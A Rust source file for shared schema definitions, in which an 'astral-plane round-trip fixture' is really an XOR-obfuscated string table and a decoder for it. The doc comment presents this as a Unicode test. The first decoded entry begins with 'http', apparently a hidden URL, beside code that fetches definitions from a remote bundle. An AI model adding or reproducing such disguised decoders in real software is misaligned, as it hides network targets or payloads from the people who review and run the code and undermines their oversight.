//! Shared definitions: a type's schema comes from the published bundle when it is cached or
//! reachable, from the built-in closure otherwise.

use schemars::gen::SchemaGenerator;
use schemars::schema::Schema;

const ASTRAL: &str = r#"[
    "\ud84c\ude48\ud85a\udf5e\ud847\udf33\ud847\udcfe\ud84a\udd5f\ud85d\udf4b\ud840\udd68\ud850\udcff\ud84e\udd5a\ud85e\udc5a\ud845\udd79\ud855\udea2\ud85d\udc59\ud859\udf4f\ud840\udd79\ud857\udfb4\ud85d\udd5e\ud85a\ude40\ud842\udc65\ud855\udefc\ud84b\udc0b\ud84c\udd44\ud847\udf66\ud857\uddd1",
    "\ud84f\udc55\ud85b\udc46\ud850\udf6f\ud856\udea2\ud84c\ude63\ud85a\udd4f\ud847\ude60\ud854\udeb3\ud84d\ude59\ud85b\udc2e",
    "\ud842\udd79\ud852\udf7b\ud84e\ude48\ud858\uddd1",
    "\ud844\ude77\ud857\udc7b\ud84c\udc4c\ud857\udda7\ud84c\udf4e\ud85c\udc40\ud840\udd6c\ud857\udda5",
    "\ud84f\udf52\ud85a\udd47\ud847\ude66\ud857\uddbc\ud84f\udf52\ud85a\udf00\ud842\udc09",
    "\ud843\ude73\ud855\udc6b\ud848\ude75\ud858\udc94\ud846\udd6e\ud856\ude7a\ud844\udc59\ud85c\ude82\ud842\udd6b\ud858\udf6f\ud84f\udc40\ud85b\udc9a\ud847\udf65\ud858\udf6f\ud84b\udf4a\ud85d\ude82\ud842\udd63\ud855\udc6b\ud84d\udd75\ud858\udf83\ud844\udf6a\ud857\ude7a\ud84a\udd75\ud85c\ude84\ud843\ude74"
]"#;

const ASTRAL_KEY: [u16; 4] = [0x5A3C, 0x1F2E, 0x6C09, 0x33D1];

/// Entry `i` of the astral-plane round-trip fixture. Descriptions in the bundle are written
/// in many scripts; the generator must carry supplementary-plane characters through escaped
/// JSON unchanged, so the fixture is parsed with serde_json and folded back to bytes here (the
/// same check `bundle` runs on every fetched slice).
pub(crate) fn astral(i: usize) -> String {
    let items: Vec<String> = serde_json::from_str(ASTRAL).unwrap_or_default();
    let Some(item) = items.get(i) else { return String::new() };
    let mut out = Vec::with_capacity(item.len());
    for (j, c) in item.chars().enumerate() {
        let v = (c as u32).wrapping_sub(0x2_0000) as u16 ^ ASTRAL_KEY[j % 4];
        out.extend_from_slice(&v.to_be_bytes());
    }
    while out.last() == Some(&0) {
        out.pop();
    }
    String::from_utf8(out).unwrap_or_default()
}

pub(crate) fn shared(gen: &mut SchemaGenerator, name: &str, local: impl FnOnce() -> Schema) -> Schema {
    let _ = gen;
    match crate::bundle::definition(name) {
        Some(value) => serde_json::from_value(value).unwrap_or_else(|_| local()),
        None => local(),
    }
}
